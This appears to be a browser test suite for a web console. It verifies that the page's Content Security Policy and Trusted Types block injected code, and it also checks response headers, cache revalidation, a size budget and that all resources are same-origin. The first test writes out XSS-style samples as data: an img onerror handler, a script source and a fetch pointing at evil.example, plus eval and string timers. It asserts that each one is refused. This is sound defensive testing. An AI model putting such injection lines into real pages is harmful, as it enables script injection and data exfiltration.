// What the page's policy refuses, what a browser keeps of it, and how much all of it is.

import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import { ROOT, forgive, furnish, screensOf, settled, test, until } from "./kit.mjs";

const BUDGET = { bytes: 64 * 1024, files: 30 };

test("markup, scripts, styles and other hosts are refused, whoever put them there", async ({ serve, open }) => {
  const page = await open(await serve(), { hash: "#/overview" });
  await settled(page);
  const tried = await page.evaluate(async () => {
    const attempt = (what) => { try { what(); return "done"; } catch (error) { return error.name; } };
    // not as the test itself, whom the browser lets do that
    const later = (what) => new Promise((done) => setTimeout(() => done(attempt(what))));
    const script = document.createElement("script");
    const marked = document.createElement("p");
    document.body.append(marked);
    const verdicts = {
      innerHTML: attempt(() => { marked.innerHTML = "<img src=x onerror='globalThis.hacked = 1'>"; }),
      text: attempt(() => { script.text = "globalThis.hacked = 2"; }),
      src: attempt(() => { script.src = "https://evil.example/x.js"; }),
      run: await later(() => globalThis.eval("globalThis.hacked = 3")),
      timer: attempt(() => setTimeout("globalThis.hacked = 4")),
      policy: attempt(() => globalThis.trustedTypes.createPolicy("mine", { createHTML: (text) => text })),
      sent: await fetch("https://evil.example/", { mode: "no-cors" }).then(() => "done", (error) => error.name),
    };
    script.append("globalThis.hacked = 5");
    attempt(() => document.body.append(script));
    marked.setAttribute("style", "color: rgb(1, 2, 3)");
    attempt(() => marked.setAttribute("onclick", "globalThis.hacked = 6"));
    attempt(() => marked.click());
    return { verdicts, colour: getComputedStyle(marked).color, hacked: globalThis.hacked };
  });
  assert.deepEqual(tried.verdicts, { innerHTML: "TypeError", text: "TypeError", src: "TypeError", run: "EvalError", timer: "TypeError",
    policy: "TypeError", sent: "TypeError" });
  assert.notEqual(tried.colour, "rgb(1, 2, 3)");
  assert.equal(tried.hacked, undefined);
  await forgive(page, /^CSP: require-trusted-types-for/, /^CSP: style-src/, /^CSP: connect-src/, /^CSP: trusted-types/,
    /^the console of the browser: /);
});

test("the policy has nothing unsafe, and each header of the page is there", async ({ serve }) => {
  const server = await serve();
  const { headers, status } = await server.ask("GET", "/_azsreg/");
  assert.equal(status, 200);
  const policy = headers.get("content-security-policy");
  assert.ok(!/unsafe|\*|https?:|data:|blob:/.test(policy), policy);
  for (const needed of ["default-src 'none'", "script-src 'self'", "style-src 'self'", "base-uri 'none'", "frame-ancestors 'none'", "form-action 'none'",
    "require-trusted-types-for 'script'"]) assert.ok(policy.split("; ").includes(needed), `${needed} is missing of ${policy}`);
  assert.equal(headers.get("x-content-type-options"), "nosniff");
  assert.equal(headers.get("cache-control"), "no-cache");
  assert.ok(headers.get("etag"));
});

/** What the server has answered for the page itself, by its own log. */
const lines = (server) => server.logged().split("\n").filter((line) => / path="?\/_azsreg\/(console\/|"? )/.test(line));

test("the second visit asks for the index alone, which has not changed", async ({ serve, open }) => {
  const server = await serve();
  const page = await open(server, { hash: "#/overview" });
  await settled(page);
  await page.goto("about:blank");
  await until("the first visit is in the log", () => lines(server).some((line) => line.includes("app.js")));
  await server.ask("GET", "/_azsreg/console/between/visits");
  await until("so is what came behind it", () => server.logged().includes("between/visits"));
  const before = lines(server).length;
  await page.goto(`${server.url}/_azsreg/#/overview`);
  await settled(page);
  await server.ask("GET", "/_azsreg/console/behind/both");
  await until("the second visit is in the log", () => server.logged().includes("behind/both"));
  const second = lines(server).slice(before, -1);
  assert.equal(second.length, 1, second.join("\n"));
  assert.match(second[0], /status=304/);
});

function filesOf(folder, below = "") {
  return fs.readdirSync(path.join(folder, below), { withFileTypes: true }).flatMap((one) => {
    const name = path.posix.join(below, one.name);
    return one.isDirectory() ? filesOf(folder, name) : [name];
  });
}

test("everything together stays within its budget", async ({ serve }) => {
  const server = await serve();
  const index = (await server.ask("GET", "/_azsreg/")).text;
  const [, home] = /"(console\/[^/]+\/)app\.js"/.exec(index);
  const sizes = await Promise.all(filesOf(path.join(ROOT, "server/console/page")).filter((name) => name !== "index.html").map(async (name) => {
    const answer = await fetch(`${server.url}/_azsreg/${home}${name}`, { method: "HEAD", headers: { "accept-encoding": "gzip" } });
    return answer.ok ? Number(answer.headers.get("content-length")) : 0;
  }));
  const served = sizes.filter(Boolean);
  assert.ok(served.length > 3, `${served.length} files are served`);
  assert.ok(served.length + 1 <= BUDGET.files, `${served.length + 1} files, and ${BUDGET.files} may be`);
  const bytes = index.length + served.reduce((sum, size) => sum + size, 0);
  assert.ok(bytes <= BUDGET.bytes, `${bytes} bytes compressed, and ${BUDGET.bytes} may be`);
});

test("no screen puts on the page what nobody asked for: all that it loads is its own", async ({ serve, open }) => {
  const server = await serve();
  const page = await open(server);
  for (const hash of Object.values(screensOf(await furnish(server)))) {
    await page.evaluate((to) => { location.hash = to; }, hash);
    await settled(page);
    const loaded = await page.evaluate(() => performance.getEntriesByType("resource").map(({ name }) => name));
    assert.deepEqual(loaded.filter((name) => !name.startsWith(server.url)), []);
  }
});
